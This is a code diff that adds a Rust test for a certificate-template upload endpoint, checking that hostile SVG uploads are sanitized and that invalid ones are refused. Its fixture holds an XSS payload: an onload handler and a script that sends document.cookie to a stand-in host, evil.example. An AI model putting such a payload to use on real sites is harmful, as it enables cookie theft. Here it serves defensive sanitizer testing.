@@ -269,6 +269,83 @@ both_backends! {
     }
 }
 
+async fn put_template(
+    app: &TestApp,
+    code: &str,
+    svg: &str,
+    content_type: &str,
+) -> (StatusCode, Value) {
+    let res = app
+        .client
+        .put(format!("{}/api/v1/programs/{code}/template", app.base))
+        .bearer_auth(&app.token)
+        .header("content-type", content_type)
+        .body(svg.to_owned())
+        .send()
+        .await
+        .unwrap();
+    let status = res.status();
+    (status, res.json().await.unwrap_or(Value::Null))
+}
+
+both_backends! {
+    async fn a_program_draws_with_its_own_template_and_hostile_uploads_are_neutralized(app) {
+        let id = seed(&app).await;
+        let hostile = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400" onload="alert(1)">
+          <script>fetch('https://evil.example/'+document.cookie)</script>
+          <image href="https://evil.example/pixel.png" width="1" height="1"/>
+          <foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>
+          <rect width="600" height="400" fill="#fdf6e3"/>
+          <text x="300" y="150" font-size="32" text-anchor="middle">{{ learner_name }}</text>
+          <text x="300" y="200" font-size="20" text-anchor="middle">{{ program_name }} · {{ organization }}</text>
+          <text x="20" y="380" font-size="10">{{ verify_url }}</text>
+          <svg x="440" y="230" width="150" height="150">{{ qr }}</svg>
+        </svg>"##;
+        let (status, stored) = put_template(&app, "Y1", hostile, "image/svg+xml").await;
+        assert_eq!(status, StatusCode::OK, "{stored}");
+        let removed = stored["removed"].to_string();
+        for what in ["<script>", "onload", "evil.example/pixel.png", "foreignObject"] {
+            assert!(removed.contains(what), "{what} in {removed}");
+        }
+        let res = app.client.get(format!("{}/api/v1/programs/Y1/template", app.base)).bearer_auth(&app.token).send().await.unwrap();
+        assert_eq!(res.headers()["content-type"], "image/svg+xml");
+        let kept = res.text().await.unwrap();
+        assert!(!kept.contains("evil") && !kept.contains("script") && kept.contains("{{ learner_name }}"), "{kept}");
+        // Certificates now draw with it: the name in the PDF, the QR code in the PNG.
+        let pdf = app.client.get(format!("{}/api/v1/awards/{id}/certificate.pdf", app.base)).bearer_auth(&app.token).send().await.unwrap().bytes().await.unwrap();
+        if std::process::Command::new("pdftotext").arg("-v").output().is_ok() {
+            let dir = tempfile::tempdir().unwrap();
+            let file = dir.path().join("c.pdf");
+            std::fs::write(&file, &pdf).unwrap();
+            let out = std::process::Command::new("pdftotext").arg(&file).arg("-").output().unwrap();
+            let text = String::from_utf8_lossy(&out.stdout);
+            assert!(text.contains("Ana Álvarez") && text.contains("Working at height · Test Org"), "{text}");
+        }
+        let png = app.client.get(format!("{}/api/v1/awards/{id}/certificate.png", app.base)).bearer_auth(&app.token).send().await.unwrap().bytes().await.unwrap();
+        assert_eq!(recert_credentials::render::qr_in_png(&png).unwrap(), format!("{}/verify/{id}", app.base));
+        let res = app.client.get(format!("{}/api/v1/programs/Y1/template/preview.png", app.base)).bearer_auth(&app.token).send().await.unwrap();
+        assert_eq!(res.status(), StatusCode::OK);
+        assert_eq!(res.headers()["content-type"], "image/png");
+
+        // What cannot be made safe is refused, saying why, and changes nothing.
+        let huge = r#"<svg xmlns="http://www.w3.org/2000/svg" width="90000" height="90000"><text>{{ learner_name }}</text></svg>"#;
+        let (status, p) = put_template(&app, "Y1", huge, "image/svg+xml").await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+        assert!(p.to_string().contains("out of range"), "{p}");
+        let (status, p) = put_template(&app, "Y1", "<html/>", "image/svg+xml").await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{p}");
+        let (status, _) = put_template(&app, "Y1", hostile, "application/json").await;
+        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
+        let (status, p) = put_template(&app, "Y1", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">{{ password }}</svg>", "image/svg+xml").await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+        assert!(p.to_string().contains("unknown placeholder"), "{p}");
+        let (status, _) = put_template(&app, "NOPE", hostile, "image/svg+xml").await;
+        assert_eq!(status, StatusCode::NOT_FOUND);
+        let still = app.client.get(format!("{}/api/v1/programs/Y1/template", app.base)).bearer_auth(&app.token).send().await.unwrap().text().await.unwrap();
+        assert_eq!(still, kept);
+    }
+}
+
 both_backends! {
     async fn the_holder_shares_a_certificate_or_turns_its_page_off(app) {
         let id = seed(&app).await;
